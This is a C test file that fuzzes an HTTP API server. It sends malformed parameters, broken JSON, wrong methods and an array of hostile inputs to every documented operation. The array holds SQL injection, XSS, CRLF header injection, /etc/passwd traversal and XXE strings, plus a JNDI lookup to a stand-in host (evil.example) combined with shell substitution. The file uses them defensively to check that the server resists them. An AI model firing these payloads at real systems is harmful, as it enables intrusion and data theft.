/* What is wrong, over real HTTP: every operation of the OpenAPI document with every kind of mistake, and with evil values in every
 * parameter. */
#include "tests/server/wire_api.h"

/* One of each kind, so that what is asked meets something. */
static void something_is_kept(void **state) {
    wire_who root = as(ADMIN);
    (void)state;
    (void)make(&root, "/api/v1/users",
               "{\"name\":\"sun\",\"role\":\"reader\",\"password\":\"" PEOPLE_PASSWORD "\"}");
    (void)make(&root, "/api/v1/organisations", "{\"name\":\"Zhangjiang\",\"kind\":\"park\"}");
    (void)make(&root, "/api/v1/keys", "{\"user\":6,\"name\":\"robot\",\"role\":\"reader\"}");
    (void)make(&root, "/api/v1/saved-queries", "{\"name\":\"mine\",\"query\":\"laser\"}");
    (void)make(&root, "/api/v1/lists", "{\"name\":\"mine\",\"items\":[\"EP1000001A1\"]}");
    (void)make(&root, "/api/v1/imports?name=a.jsonl",
               "{\"pub\":\"US2021000001A1\",\"title\":\"Turbine\"}\n");
}

/* ---- mistakes ---- */

/* One mistake in one operation. */
static void wrong(const operation *o, const char *target, const char *body, int status,
                  const char *code) {
    wire_answer a;
    ask(ADMIN, o->method, target, body, &a);
    if (o->foreign) {
        if (a.status < 400 || a.status >= 500) fail_msg("%s %s: %d", o->method, target, a.status);
    } else {
        check_problem(&a, status, code, target);
    }
    wire_done(&a);
}

static bool takes_json(const operation *o) {
    return at(o->json, "requestBody content application/json") != NULL;
}

/* Parameters beside those that are documented are those of an analysis, or the foreign client's own affair. */
static bool is_open(const operation *o) {
    return is_operation(o, "analyze") || is_operation(o, "analyzeLong") ||
           px_str_starts((px_str){o->path, o->path_n}, PX_STR("/ops/")) ||
           px_str_starts((px_str){o->path, o->path_n}, PX_STR("/sru"));
}

static void wrong_parameters(const operation *o, px_buf *b) {
    static const px_str bytes[] = {{"\xFF\xFE", 2}, {"a\0b", 3}};
    const px_str none = PX_STR("no_such_value");
    for (const px_json *p = parameters(o); p; p = px_json_next(p)) {
        const px_json *schema = px_json_get(p, "schema");
        px_str type = px_json_str(px_json_get(schema, "type"));
        if (!is_in(p, "query") && !is_in(p, "path")) continue;
        for (size_t k = 0; k < 2; k++) {
            target_of(o, p, &bytes[k], b);
            wrong(o, b->p, NULL, 400, "USAGE");
        }
        if (px_str_is(type, "integer") || px_str_is(type, "boolean") || at(schema, "enum")) {
            target_of(o, p, &none, b);
            wrong(o, b->p, NULL, 400, "USAGE");
        }
        if (is_in(p, "query") && px_json_bool(px_json_get(p, "required"))) {
            target_of(o, p, NULL, b);
            wrong(o, b->p, NULL, 400, "USAGE");
        }
        if (is_in(p, "path") && px_str_is(px_json_str(px_json_get(p, "name")), "id")) {
            static const px_str ids[] = {
                {"999999", 6}, {"18446744073709551616", 20}, {"9223372036854775807", 19}};
            for (size_t k = 0; k < 3; k++) {
                wire_answer a;
                target_of(o, p, &ids[k], b);
                ask(ADMIN, o->method, b->p, takes_json(o) ? "{}" : NULL, &a);
                if (a.status != 404 && a.status != 400) fail_msg("%s: %d", b->p, a.status);
                check_answer(NULL, &a, b->p);
                wire_done(&a);
            }
        }
    }
}

static void wrong_bodies(const operation *o, px_buf *b) {
    static const char *const bodies[] = {"",
                                         "{",
                                         "[]",
                                         "null",
                                         "{\"\\uD800\":1}",
                                         "{\"no_such_member\":1}",
                                         "{\"q\":\"\xFF\"}",
                                         "{\"q\":[[[[[[[[1]]]]]]]],\"name\":{},\"text\":7}"};
    target_of(o, NULL, NULL, b);
    for (size_t k = 0; k < sizeof bodies / sizeof *bodies; k++)
        wrong(o, b->p, bodies[k], 400, "USAGE");
    wire_who who = as(ADMIN);
    wire_answer a;
    who.fields = "Content-Length: 99999999\r\n";
    wire_ask(&server, &who, o->method, b->p, NULL, &a);
    if (a.status != 413 && a.status != 400) fail_msg("%s: a huge body: %d", b->p, a.status);
    wire_done(&a);
}

static void every_mistake(void **state) {
    static const char *const methods[] = {"GET", "POST", "PUT", "PATCH", "DELETE", "BREW"};
    px_buf b;
    (void)state;
    px_buf_init(&b, 1 << 16);
    for (size_t i = 0; i < n_all; i++) {
        const operation *o = &all[i];
        wrong_parameters(o, &b);
        if (takes_json(o)) wrong_bodies(o, &b);
        if (!is_open(o) && !takes_json(o)) {
            target_of(o, NULL, NULL, &b);
            px_buf_fmt(&b, "%cno_such_parameter=1", strchr(b.p, '?') ? '&' : '?');
            px_buf_ch(&b, 0);
            if (!o->foreign) wrong(o, b.p, NULL, 400, "USAGE");
        }
        /* every other method of the path */
        target_of(o, NULL, NULL, &b);
        b.p[strcspn(b.p, "?")] = 0;
        for (size_t m = 0; m < sizeof methods / sizeof *methods; m++) {
            bool has = false;
            for (size_t k = 0; k < n_all; k++)
                has = has || (strcmp(all[k].method, methods[m]) == 0 &&
                              px_str_eq((px_str){all[k].path, all[k].path_n},
                                        (px_str){o->path, o->path_n}));
            /* {rest} takes what no other pattern has */
            if (has || px_str_starts((px_str){o->path, o->path_n}, PX_STR("/ops/"))) continue;
            wire_answer a;
            ask(ADMIN, methods[m], b.p, NULL, &a);
            if (a.status != 405 || !wire_field(&a, "allow").n)
                fail_msg("%s %s: %d", methods[m], b.p, a.status);
            check_answer(NULL, &a, b.p);
            wire_done(&a);
        }
    }
    static const char *const nowhere[] = {"/api/v1/nothing", "/api/v2", "/api/v1/records",
                                          "/api//v1",        "/ops",    "/api/v1/search/"};
    for (size_t i = 0; i < sizeof nowhere / sizeof *nowhere; i++) {
        wire_answer a;
        ask(ADMIN, "GET", nowhere[i], NULL, &a);
        if (strcmp(nowhere[i], "/api/v1/records") == 0)
            check_problem(&a, 405, "METHOD", nowhere[i]);
        else
            check_problem(&a, 404, "NOTFOUND", nowhere[i]);
        wire_done(&a);
    }
    px_buf_done(&b);
}

/* ---- evil values ---- */

static void evil_everywhere(void **state) {
    static const char *const evil[] = {"' OR '1'='1' --",
                                       "1; DROP TABLE user; --",
                                       "\") UNION SELECT password FROM user --",
                                       "<script>alert(1)</script>",
                                       "\"><img src=x onerror=alert(1)>",
                                       "</title><svg/onload=alert(1)>",
                                       "a\r\nSet-Cookie: patix_session=evil\r\nX-Evil: 1",
                                       "../../../../etc/passwd",
                                       "${jndi:ldap://evil.example/a}{{7*7}}$(id)`id`",
                                       "%s%n%x%n",
                                       "\xE2\x80\xAE\xEF\xBF\xBF\xF4\x8F\xBF\xBF",
                                       "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;"};
    px_buf b;
    wire_answer before, after;
    (void)state;
    px_buf_init(&b, 1 << 16);
    ask(ADMIN, "GET", "/api/v1/users?limit=1000", NULL, &before);
    for (size_t i = 0; i < n_all; i++)
        for (const px_json *p = parameters(&all[i]); p; p = px_json_next(p))
            for (size_t e = 0; e < sizeof evil / sizeof *evil; e++) {
                const operation *o = &all[i];
                px_str value = px_str_of(evil[e]);
                wire_who who = as(ADMIN);
                wire_answer a;
                char field[256];
                if (!px_json_get(p, "name")) continue; /* lang, by its $ref */
                target_of(o, p, &value, &b);
                if (is_in(p, "header") && !strchr(evil[e], '\r')) {
                    (void)snprintf(field, sizeof field, "%.*s: %s\r\n",
                                   PX_STR_ARG(px_json_str(px_json_get(p, "name"))), evil[e]);
                    who.fields = field;
                }
                wire_ask(&server, &who, o->method, b.p, NULL, &a);
                px_str type = wire_field(&a, "content-type");
                bool markup = px_str_find(type, PX_STR("html")) != SIZE_MAX ||
                              px_str_find(type, PX_STR("xml")) != SIZE_MAX;
                if (a.status < 200 || a.status >= 500)
                    fail_msg("%s %s: %.*s", o->method, b.p, PX_STR_ARG(px_buf_view(&a.all)));
                if (wire_field(&a, "x-evil").p || wire_field(&a, "set-cookie").p)
                    fail_msg("%s: a field was put in: %.*s", b.p, PX_STR_ARG(a.head));
                static const char *const tags[] = {"<script>a", "<img src=x", "<svg/", "<!ENTITY",
                                                   "root:"};
                for (size_t t = 0; t < sizeof tags / sizeof *tags; t++)
                    if ((markup || t == 4) && px_str_find(a.body, px_str_of(tags[t])) != SIZE_MAX)
                        fail_msg("%s: %s in: %.*s", b.p, tags[t], PX_STR_ARG(a.body));
                wire_done(&a);
            }
    ask(ADMIN, "GET", "/api/v1/users?limit=1000", NULL, &after);
    assert_int_equal(after.status, 200);
    assert_true(px_str_eq(before.body, after.body));
    wire_done(&before);
    wire_done(&after);
    px_buf_done(&b);
}

static const struct CMUnitTest tests[] = {cmocka_unit_test(something_is_kept),
                                          cmocka_unit_test(every_mistake),
                                          cmocka_unit_test(evil_everywhere)};

WIRE_MAIN(tests)
